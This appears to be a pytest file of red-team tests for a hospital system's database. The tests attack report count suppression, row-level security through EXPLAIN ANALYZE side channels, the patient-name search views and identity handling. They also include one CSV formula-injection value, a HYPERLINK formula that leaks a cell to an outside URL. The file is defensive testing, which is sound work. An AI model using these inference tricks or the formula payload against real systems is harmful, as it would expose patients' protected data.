"""Red team, round three: the reports, the ranked patient search, the
identity row written in place and the keys that carry patient_id, attacked
with raw SQL as hms_app (and through the pages). Each test is an attack; it
passes when the attack fails.

The reports' history is the hand-counted one of tests/reports/conftest.py:
on Ward 12 one patient is discharged on D+1 (a count below 5, suppressed)
and five on D+2; the medical unit discharges six in March."""

import csv
import io
import re

import pytest

from tests.access.conftest import browser  # noqa: F401  (the pages' fixture)
from tests.acting import authenticate, session_for
from tests.journal import given
from tests.patients.registry import add_patient
from tests.reports.conftest import VITALS, D, at, head_of_medicine, history  # noqa: F401  (the history and its fixtures)
from tests.wall.conftest import NOTHING, journal_rows

EXPLAIN_LEAKS = (
    "EXPLAIN ANALYZE, which PostgreSQL lets any role run on its own queries, prints what a scan read "
    "and a filter removed, and which subplans ran, before the row-level policy or the report view's "
    "unit filter hid the rows; a leakproof qual of the caller's (text =) runs first. No grant stops it."
)


def explained(conn, query: str, params: list | None = None) -> str:
    """The plan as run, without times or costs, and with the query's
    constants taken out: what a caller learns beyond the rows it gets."""
    conn.execute("SET enable_seqscan = off")
    conn.execute("SET enable_bitmapscan = off")
    # Buffers are left out (PostgreSQL 18 shows them with ANALYZE unless
    # told not to): their counts follow the cache and the index pages' layout,
    # not only the rows, and differ between two runs of the same query.
    rows = conn.execute(
        "EXPLAIN (ANALYZE, BUFFERS OFF, COSTS OFF, TIMING OFF, SUMMARY OFF) " + query, params
    ).fetchall()
    plan = re.sub(r"'[^']*'", "'?'", "\n".join(r["QUERY PLAN"] for r in rows))
    # Heap fetches of an index-only scan count index entries whose page is
    # not yet all-visible: a key removed by a rename stays in the index as a
    # dead entry until vacuum, which this count can show for a while. A known
    # weak channel (docs/ARCHITECTURE.md, the name search), left out here so
    # the test holds the plan's shape and rows.
    return re.sub(r"Heap Fetches: \d+", "Heap Fetches: ?", plan)


def test_a_suppressed_days_discharges_are_not_the_months_less_the_shown_days(
    acting_as,
    cast,
    history,  # noqa: F811
    head_of_medicine,  # noqa: F811
):
    """A head of department reads the unit's discharges in March and every
    shown day's discharges on its wards: the month less the shown days must
    not give away the suppressed day's count."""
    head = acting_as(cast.alice)
    month = head.execute(
        "SELECT discharges FROM report_flow_unit_month WHERE care_unit_id = %s AND month = %s",
        [cast.unit_med, D.date().replace(day=1)],
    ).fetchone()
    days = head.execute(
        "SELECT day, discharged FROM report_flow_ward_day WHERE care_unit_id = %s "
        "AND date_trunc('month', day) = %s",
        [cast.unit_med, D.date().replace(day=1)],
    ).fetchall()
    hidden = [r for r in days if r["discharged"] is None and r["day"] == at(1, 0).date()]
    assert hidden, "the day with one discharge is suppressed"
    shown = sum(r["discharged"] for r in days if r["discharged"] is not None)
    # The suppressed day discharged one patient: the month must not say so.
    assert month["discharges"] is None or month["discharges"] - shown != 1


@pytest.mark.xfail(strict=True, reason=EXPLAIN_LEAKS)
def test_explain_does_not_tell_a_doctor_without_care_which_diagnoses_a_patient_has(owner, cast, acting_as):
    """Dr Charlie, on surgery, has no care of Greta and reads none of her
    diagnoses. The plan of his query for a code she has must read as the
    plan for a code she has not."""
    given.clinical(owner, cast, "diagnosis", code="J18.9")
    charlie = acting_as(cast.charlie)
    query = "SELECT id FROM diagnosis WHERE patient_id = %s AND code = %s"
    assert charlie.execute(query, [cast.greta_patient, "J18.9"]).fetchall() == []
    has = explained(charlie, query, [cast.greta_patient, "J18.9"])
    has_not = explained(charlie, query, [cast.greta_patient, "F20.0"])
    assert has == has_not


@pytest.mark.xfail(strict=True, reason=EXPLAIN_LEAKS)
def test_explain_does_not_tell_a_head_of_department_of_another_units_activity(
    owner,
    cast,
    acting_as,
    history,  # noqa: F811
    head_of_medicine,  # noqa: F811
):
    """The head of medicine reads no row of surgery's ward; the plan of her
    query for that ward must not change when surgery's ward gets busier."""
    head = acting_as(cast.alice)
    query = "SELECT day FROM report_flow_ward_day WHERE ward_id = %s"
    assert head.execute(query, [history.surgical_ward]).fetchall() == []
    before = explained(head, query, [history.surgical_ward])
    bed = owner.execute(
        "SELECT b.id FROM bed AS b JOIN room AS r ON b.room_id = r.id WHERE r.ward_id = %s",
        [history.surgical_ward],
    ).fetchone()["id"]
    patient = history.patients[1]
    enc = owner.execute(
        "INSERT INTO encounter (patient_id, care_unit_id, kind, reason, started_at, ended_at, created_by) "
        "VALUES (%s, %s, 'admission', 'Appendicit', %s, %s, %s) RETURNING id",
        [patient, cast.unit_surg, at(40, 8), at(43, 8), cast.charlie],
    ).fetchone()["id"]
    owner.execute(
        "INSERT INTO bed_occupancy (bed_id, encounter_id, patient_id, during) VALUES (%s, %s, %s, tstzrange(%s, %s))",
        [bed, enc, patient, at(40, 8), at(43, 8)],
    )
    owner.execute("SELECT report_refresh()")
    assert head.execute(query, [history.surgical_ward]).fetchall() == []
    assert explained(head, query, [history.surgical_ward]) == before


def test_a_units_suppressed_no_shows_are_not_its_clinicians_appointments_less_the_attended(
    owner,
    cast,
    acting_as,
    history,  # noqa: F811
    head_of_medicine,  # noqa: F811
):
    """In March Dr Alice had eight appointments on the medical unit, six
    attended and two missed. Without Nurse Bob's one still booked, every
    March appointment is settled: her eight would tell the two, so the
    month's clinicians are left out (reporting.access_split_month, 0043)."""
    owner.execute("DELETE FROM appointment WHERE clinician_id = %s", [cast.bob])
    owner.execute("SELECT report_refresh()")
    head = acting_as(cast.alice)
    month = D.date().replace(day=1)
    attendance = head.execute(
        "SELECT attended, no_shows FROM report_access_attendance_month WHERE care_unit_id = %s AND month = %s",
        [cast.unit_med, month],
    ).fetchone()
    assert (attendance["attended"], attendance["no_shows"]) == (6, None)
    clinicians = head.execute(
        "SELECT appointments FROM report_access_clinician_month WHERE care_unit_id = %s AND month = %s",
        [cast.unit_med, month],
    ).fetchall()
    counts = [r["appointments"] for r in clinicians]
    derived = None if None in counts else sum(counts) - attendance["attended"]
    assert derived != 2


def test_a_count_shown_beside_the_count_it_is_part_of_leaves_no_small_remainder(
    owner,
    cast,
    acting_as,
    history,  # noqa: F811
    head_of_medicine,  # noqa: F811
):
    """Surgery scores seven NEWS2 sets in March, five of them red: seven
    less five would tell that two were not. A share is withheld when its
    complement is below 5; so is a part whose whole is shown beside it."""
    for i, rate in enumerate([25, 25, 25, 25, 16, 16]):
        owner.execute(VITALS, [history.patients[i], cast.unit_surg, at(3, 9), rate, cast.bob])
    owner.execute("SELECT report_refresh()")
    admin = acting_as(cast.adam)
    row = admin.execute(
        "SELECT scored_sets, red_sets FROM report_clinical_news2_month WHERE care_unit_id = %s AND month = %s",
        [cast.unit_surg, D.date().replace(day=1)],
    ).fetchone()
    assert row["scored_sets"] == 7
    assert row["red_sets"] is None


def test_a_parallel_plan_reads_the_same_identity_as_the_backend_that_proved_it(acting_as, cast):
    """The identity row is the proving backend's; a parallel worker is a
    process of its own, so a function that reads the row runs in the leader
    only. In a worker Adam read as nobody: rows silently missing from a
    parallel scan under a policy, never more rows, but wrong answers."""
    adam = acting_as(cast.adam)
    # PostgreSQL 16 renamed force_parallel_mode to debug_parallel_query.
    version = adam.execute("SELECT current_setting('server_version_num')::int AS v").fetchone()["v"]
    force = "debug_parallel_query" if version >= 160000 else "force_parallel_mode"
    with adam.transaction():
        for setting in (
            f"{force} = on",
            "parallel_setup_cost = 0",
            "parallel_tuple_cost = 0",
            "min_parallel_table_scan_size = 0",
        ):
            adam.execute(f"SET LOCAL {setting}")
        row = adam.execute("SELECT hms_current_role() AS role, hms_current_user_id() AS user_id").fetchone()
    assert (row["role"], row["user_id"]) == ("administrator", cast.adam)


@pytest.mark.parametrize("who", ["greta", "sven", "erik"])
@pytest.mark.parametrize("view", ["patient_search_word", "patient_search_key"])
def test_a_qual_that_fails_on_a_name_reads_no_name_through_the_search_views(acting_as, cast, who, view):
    """The search views are no security barriers: their role check is a
    condition like the caller's own. A cast that fails names the value it
    failed on; the role check, without a column, must run first and stop
    the scan before any name reaches the cast."""
    column = "word" if view == "patient_search_word" else "key"
    conn = acting_as(cast.ids[who])
    rows = conn.execute(f"SELECT {column} FROM {view} WHERE {column}::integer = 0").fetchall()  # noqa: S608
    assert rows == []


def test_a_protected_patients_former_name_is_not_left_in_the_vocabulary(owner, acting_as, cast):
    """A patient under threat is given protected identity and a new name;
    reception must not be able to tell that the old name was ever here."""
    patient = add_patient(owner, "Siv", "Zetterqvist", "19700303")
    owner.execute(
        "UPDATE patient SET protected_identity = true, family_name = 'Berg' WHERE id = %s", [patient]
    )
    rita = acting_as(cast.rita)
    assert rita.execute("SELECT key FROM patient_search_key WHERE key = 'zetterqvist'").fetchall() == []
    assert rita.execute("SELECT word FROM patient_search_word WHERE word = 'zetterqvist'").fetchall() == []


def test_nor_does_the_plan_of_a_query_for_it_tell_reception(owner, acting_as, cast):
    """EXPLAIN ANALYZE shows what a scan read before a filter removed it: the
    former name's word must be gone from the table, not merely filtered."""
    patient = add_patient(owner, "Siv", "Zetterqvist", "19700303")
    owner.execute(
        "UPDATE patient SET protected_identity = true, family_name = 'Berg' WHERE id = %s", [patient]
    )
    rita = acting_as(cast.rita)
    query = "SELECT word FROM patient_search_word WHERE word = %s"
    assert explained(rita, query, ["zetterqvist"]) == explained(rita, query, ["never-registered"])


@pytest.mark.parametrize("username", ["rita", "alice", "petra", "adam", "erik", "greta", "sven"])
def test_no_role_reads_a_word_or_key_of_a_name_it_does_not_see_in_the_registry(
    owner, acting_as, cast, username
):
    """Whoever acts, the search's vocabulary and keys are those of the names
    the directory shows them, a protected patient's present name included,
    and nothing of a name no patient has any more."""
    protected = add_patient(owner, "Siv", "Zetterqvist", "19700303", protected_identity=True)
    add_patient(owner, "Moa", "Quist", "19800505", protected_identity=True)
    owner.execute("UPDATE patient SET family_name = 'Berg' WHERE id = %s", [protected])
    who = acting_as(getattr(cast, username))
    words = who.execute(
        "SELECT word FROM patient_search_word EXCEPT "
        "SELECT unnest(hms_name_words(search_name)) FROM patient_search_directory"
    ).fetchall()
    keys = who.execute(
        "SELECT key, patient_id FROM patient_search_key EXCEPT "
        "SELECT k.key, d.id FROM patient_search_directory AS d, "
        "unnest(hms_name_words(d.search_name)) AS a (word), unnest(hms_name_words(d.search_name)) AS b (word), "
        "LATERAL (VALUES (a.word), (CASE WHEN a.word < b.word THEN a.word || ' ' || b.word END)) AS k (key) "
        "WHERE k.key IS NOT NULL"
    ).fetchall()
    assert (words, keys) == ([], [])
    searches = username in ("rita", "alice", "petra", "adam")
    assert (
        bool(who.execute("SELECT word FROM patient_search_word WHERE word = 'quist'").fetchall()) == searches
    )


def test_a_role_that_does_not_search_learns_nothing_of_the_vocabulary_from_a_plan(owner, acting_as, cast):
    """Greta, a patient, asks for a word only a protected patient has and
    for one no one has: the plans must read the same (the role's rule is
    decided before any word is read)."""
    add_patient(owner, "Moa", "Quist", "19800505", protected_identity=True)
    greta = acting_as(cast.greta)
    query = "SELECT word FROM patient_search_word WHERE word = %s"
    assert explained(greta, query, ["quist"]) == explained(greta, query, ["never-registered"])


def test_a_head_who_is_no_longer_a_clinician_reads_no_report(
    owner,
    acting_as,
    cast,
    history,  # noqa: F811
    head_of_medicine,  # noqa: F811
):
    """Only a doctor, nurse or administrator is appointed head; an account
    given another role (here an outside specialist's) keeps its appointment
    row, but not the department's figures."""
    assert (
        acting_as(cast.alice).execute("SELECT count(*) AS n FROM report_flow_unit_month").fetchone()["n"] > 0
    )
    owner.execute("UPDATE app_user SET role = 'external_specialist' WHERE id = %s", [cast.alice])
    alice = acting_as(cast.alice)
    assert alice.execute("SELECT hms_current_role() AS r").fetchone()["r"] == "external_specialist"
    assert alice.execute("SELECT hms_report_units() AS u").fetchone()["u"] == []
    assert alice.execute("SELECT count(*) AS n FROM report_flow_unit_month").fetchone()["n"] == 0


def test_a_name_that_reads_as_a_formula_is_written_as_text_in_the_csv(
    owner,
    cast,
    browser,  # noqa: F811
    history,  # noqa: F811
):
    """A clinician's name is typed by an administrator; one that starts like
    a spreadsheet formula must not run as one when a head opens the file."""
    name = '=HYPERLINK("https://example.org/?"&A1,"Dr Alice")'
    owner.execute("UPDATE app_user SET full_name = %s WHERE id = %s", [name, cast.alice])
    response = browser("adam").get(
        "/reports/access/access_clinician_month.csv?from_day=2026-03-01&to_day=2026-03-31"
    )
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert "'" + name in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_a_proof_undone_by_a_savepoints_rollback_takes_its_identity_and_decisions_with_it(
    app_conn, owner, cast, greta_journal
):
    """Dr Charlie proves his session, then Dr Alice hers inside a savepoint
    and reads Greta's journal (her decisions are cached); rolled back to the
    savepoint, the transaction is Charlie's again, and reads as his."""
    charlie, alice = session_for(owner, cast.charlie), session_for(owner, cast.alice)
    with app_conn.transaction():
        assert authenticate(app_conn, charlie) == cast.charlie
        assert journal_rows(app_conn, cast.greta_patient) == NOTHING
        app_conn.execute("SAVEPOINT alice")
        assert authenticate(app_conn, alice) == cast.alice
        assert journal_rows(app_conn, cast.greta_patient)["notes"] == 1
        app_conn.execute("ROLLBACK TO SAVEPOINT alice")
        assert app_conn.execute("SELECT hms_current_user_id() AS u").fetchone()["u"] == cast.charlie
        assert journal_rows(app_conn, cast.greta_patient) == NOTHING
    with app_conn.transaction():
        app_conn.execute("SAVEPOINT alice")
        assert authenticate(app_conn, alice) == cast.alice
        app_conn.execute("ROLLBACK TO SAVEPOINT alice")
        assert app_conn.execute("SELECT hms_current_user_id() AS u").fetchone()["u"] is None
        assert journal_rows(app_conn, cast.greta_patient) == NOTHING
